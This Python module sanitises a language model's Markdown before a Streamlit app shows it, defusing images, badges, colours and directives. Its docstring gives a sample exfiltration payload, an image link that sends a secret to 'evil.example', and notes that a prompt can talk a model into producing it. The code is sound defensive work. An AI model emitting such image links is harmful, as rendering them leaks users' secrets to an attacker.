"""Makes a model's Markdown safe to show: for an image, the reader's browser would call the address it names.

What Streamlit alone takes for more than text, a badge, a colour or an icon, is shown as it is written: it could pass
for what the app itself says.

A prompt can talk a model into ``![x](https://evil.example/?q=secret)``; shown as it is, the secret is gone.
Raw HTML is not handled here: it must never be rendered at all.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

# Possessive and bounded, or hostile text would make it try every length.
_IMAGE = re.compile(r"!\[([^\]\[\n]{0,500}+)\]\(\s{0,9}+<?([^)\s>]{0,2000}+)>?[^)\n]{0,500}+\)")
_JOINER = "\u2060"  # WORD JOINER: no width, but it parts “!” from “[”
_DIRECTIVE = re.compile(r":(?=material/|streamlit:|[A-Za-z][\w-]*[\[{])")
_COMMONMARK = MarkdownIt("commonmark")


def safe_markdown(text: str) -> str:
    """The same text with every image a link that shows its target, and without badges, colours and icons.

    No ``![`` survives anywhere, whatever a renderer takes for code: inside code, where a link would be wrong,
    an invisible character parts the two.
    """
    lines = text.split("\n")
    code = _code_lines(text)
    shown = [_in_code(line) if number in code else _in_prose(line) for number, line in enumerate(lines)]
    return "\n".join(shown)


def _code_lines(text: str) -> set[int]:
    """The lines of fenced and indented code blocks."""
    lines: set[int] = set()
    for token in _COMMONMARK.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines |= set(range(*token.map))
    return lines


def _in_code(line: str) -> str:
    return line.replace("![", f"!{_JOINER}[")


def _in_prose(line: str) -> str:
    """Outside code blocks; inside `code spans`, the invisible character too. A price is no formula."""
    parts = re.split(r"(`+[^`]*`+)", line)
    for at, part in enumerate(parts):
        if at % 2:
            parts[at] = _in_code(part)
        else:
            defused = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'} ({m.group(2)})]({m.group(2)})", part)
            parts[at] = re.sub(r"(?<!\\)\$(?=\d)", r"\\$", defused.replace("![", "\\!["))
    # Two parts may meet as “!” and “[”.
    return _DIRECTIVE.sub(f":{_JOINER}", "".join(parts).replace("![", f"!{_JOINER}["))
